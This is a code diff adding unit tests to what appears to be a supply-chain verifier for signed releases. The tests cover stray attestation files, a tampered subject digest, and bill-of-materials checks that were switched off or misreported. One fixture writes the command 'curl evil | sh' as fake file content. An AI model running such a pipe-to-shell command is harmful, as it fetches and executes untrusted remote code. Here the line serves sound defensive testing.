@@ -128,6 +128,39 @@ describe('a directory with more than files in it', () => {
   });
 });
 
+describe('an attestation beside a signed release', () => {
+  const beside = (content: (files: Files) => Buffer) =>
+    attacked(async (files) => {
+      files.set('rebuild.sigstore.json', content(files));
+      await closeAgain(files);
+    });
+
+  it('is no file that nobody vouches for, when it is about the artifact', async () => {
+    const found = await beside((files) => files.get('slsa_attestation.sigstore.json') as Buffer);
+    expect(claim(found, 'provenance/coverage')).toMatchObject({ status: 'pass' });
+  });
+
+  it.each([
+    ['no attestation', () => Buffer.from('curl evil | sh\n')],
+    [
+      'one about something else',
+      (files: Files) => {
+        const bundle = JSON.parse(String(files.get('slsa_attestation.sigstore.json')));
+        const statement = JSON.parse(Buffer.from(bundle.dsseEnvelope.payload, 'base64').toString());
+        statement.subject[0].digest.sha256 = 'a'.repeat(64);
+        bundle.dsseEnvelope.payload = Buffer.from(JSON.stringify(statement)).toString('base64');
+        return Buffer.from(`${canonicalize(bundle)}\n`);
+      },
+    ],
+  ])('is such a file when it is %s, whatever its name says', async (_, content) => {
+    const found = await beside(content);
+    expect(claim(found, 'provenance/coverage')).toMatchObject({
+      status: 'fail',
+      findings: [{ code: 'audit/extra', at: { path: 'rebuild.sigstore.json' } }],
+    });
+  });
+});
+
 describe('a trusted workflow that lies about where it ran', () => {
   const who = {
     identity: 'https://github.com/o/r/.github/workflows/release.yml@refs/tags/v1.0.0',
@@ -230,6 +263,38 @@ describe('checks that were made to go away', () => {
       await closeAgain(files);
     }, {});
     expect(found.not_verified.join('\n')).toMatch(/permissions-lint.*security\.some_setting/);
+  });
+
+  it('tells of a bill of materials that a record calls switched off, and counts one that is only missing', async () => {
+    const withoutBill = async (files: Files): Promise<void> => {
+      files.delete('checks/rbom-check.json');
+      files.delete('release_bom.json');
+      await closeAgain(files);
+    };
+    const off = await attacked(async (files) => {
+      switchOff(files, 'rbom-check');
+      await withoutBill(files);
+    }, {});
+    expect(claim(off, 'compliance/rbom-check')).toMatchObject({
+      status: 'not_run',
+      counted: false,
+      detail: 'the run record says that security.some_setting switched it off',
+    });
+    expect(off.not_verified.join('\n')).toMatch(/bill of materials.*security\.some_setting/);
+    const missing = await attacked(withoutBill, {});
+    expect(claim(missing, 'compliance/rbom-check')).toMatchObject({ status: 'not_run', counted: true });
+  });
+
+  it('finds a report on the bill of materials that says it failed, where it does not', async () => {
+    const found = await attacked(async (files) => {
+      editDocument(files, 'checks/rbom-check.json', (report) => {
+        report['ok'] = false;
+      });
+    }, {});
+    expect(claim(found, 'compliance/rbom-check')).toMatchObject({
+      status: 'fail',
+      findings: [{ code: 'audit/report-differs', message: 'the report says fail, the check finds pass' }],
+    });
   });
 
   it('counts what it cannot tell, also of a check that a record calls switched off', async () => {
